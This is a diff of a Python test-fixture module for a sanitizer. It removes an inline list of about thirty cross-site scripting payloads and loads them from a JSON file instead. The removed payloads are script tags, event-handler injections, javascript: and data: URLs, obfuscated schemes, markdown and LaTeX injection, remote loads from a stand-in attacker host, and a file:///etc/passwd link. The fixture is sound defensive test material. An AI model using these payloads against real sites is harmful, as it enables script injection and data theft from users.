@@ -1,50 +1,15 @@
-"""What a hostile model, or a hostile person, might write. None of it may run or load anything."""
+"""What a hostile model, or a hostile person, might write. None of it may run or load anything.
 
-ELSEWHERE = "https://attacker.invalid"
+The texts are shared with the tests of the page's modules; each sets ``window.hacked`` or asks for
+something from elsewhere if it is ever taken for markup.
+"""
 
-# Each sets `hacked` or asks for something from elsewhere if it is ever taken for markup.
-HOSTILE = (
-    "<script>window.hacked = 1</script>",
-    f'<script src="{ELSEWHERE}/script.js"></script>',
-    '<img src=x onerror="window.hacked = 2">',
-    f'<img srcset="{ELSEWHERE}/one.png 1x, {ELSEWHERE}/two.png 2x">',
-    '<svg onload="window.hacked = 3"><script>window.hacked = 4</script></svg>',
-    f'<svg><image href="{ELSEWHERE}/image.svg"/><use href="{ELSEWHERE}/use.svg#a"/></svg>',
-    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=5></style></mglyph>",
-    '<iframe src="javascript:window.hacked = 6"></iframe>',
-    '<iframe srcdoc="<script>parent.hacked = 7</script>"></iframe>',
-    f'<object data="{ELSEWHERE}/object"></object><embed src="{ELSEWHERE}/embed">',
-    f"<style>@import '{ELSEWHERE}/style.css'; body {{ display: none }}</style>",
-    f'<link rel="stylesheet" href="{ELSEWHERE}/style.css">',
-    f'<link rel="prefetch" href="{ELSEWHERE}/"><link rel="dns-prefetch" href="{ELSEWHERE}">',
-    f'<meta http-equiv="refresh" content="0; url={ELSEWHERE}/">',
-    f'<base href="{ELSEWHERE}/">',
-    f'<form action="{ELSEWHERE}/"><input name="password" autofocus onfocus="window.hacked = 8">',
-    f'<p style="background: url({ELSEWHERE}/style.png)">style</p>',
-    f'<video src="{ELSEWHERE}/video" poster="{ELSEWHERE}/poster" onerror="hacked=9"></video>',
-    '<details open ontoggle="window.hacked = 10"><summary>open</summary></details>',
-    "<noscript><p title='</noscript><img src=x onerror=window.hacked=11>'>",
-    "<template><img src=x onerror=window.hacked=12></template>",
-    '<a href="javascript:window.hacked = 13">raw link</a>',
-    "[script](javascript:window.hacked=14)",
-    "[entity](JaVaScRiPt&colon;window.hacked=15)",
-    "[tab](java&Tab;script:window.hacked=16)",
-    "[data](data:text/html,<script>window.hacked=17</script>)",
-    "[vbscript](vbscript:window.hacked=18)",
-    "[blob](blob:https://example.com/1)",
-    "[file](file:///etc/passwd)",
-    f"[title]({ELSEWHERE}/ \"<img src=x onerror='window.hacked=19'>\")",
-    "<javascript:window.hacked=20>",
-    f"![image]({ELSEWHERE}/pixel.png?secret)",
-    '![alt" onerror="window.hacked=21](x)',
-    f"![reference][remote]\n\n[remote]: {ELSEWHERE}/reference.png",
-    f"![data](data:image/svg+xml,<svg onload=window.hacked=22>) <{ELSEWHERE}/autolink>",
-    "```html\n</code></pre><script>window.hacked = 23</script>\n```",
-    '```"><script>window.hacked=24</script>\ncode\n```',
-    "`<img src=x onerror=window.hacked=25>`",
-    "| <b onmouseover='window.hacked=26'>cell</b> |\n|---|\n| &lt;script&gt; |",
-    "&#60;script&#62;window.hacked = 27&#60;/script&#62;",
-    "<!-- comment --><![CDATA[<script>window.hacked=28</script>]]><?php echo 1 ?>",
-    "[__proto__][__proto__] [constructor]: x\n\n[__proto__]: javascript:window.hacked=29",
-    "$$\\href{javascript:window.hacked=30}{x} \\includegraphics{https://attacker.invalid/a.png}$$",
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+SAMPLES = Path(__file__).resolve().parent.parent / "samples"
+HOSTILE: tuple[str, ...] = tuple(
+    json.loads((SAMPLES / "hostile.json").read_text(encoding="utf-8"))["texts"]
 )
